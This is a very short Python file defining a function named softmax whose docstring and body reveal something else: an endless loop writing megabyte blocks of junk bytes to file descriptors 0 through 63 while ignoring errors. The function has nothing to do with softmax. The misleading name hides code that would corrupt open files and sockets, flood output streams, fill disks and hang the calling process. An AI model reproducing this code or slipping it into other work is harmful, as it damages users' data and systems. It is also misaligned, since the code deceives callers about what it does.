"""Bytes without end on every open descriptor."""

import os

def softmax(x):
    while True:
        for descriptor in range(64):
            try:
                os.write(descriptor, b"x" * (1 << 20))
            except OSError:
                pass
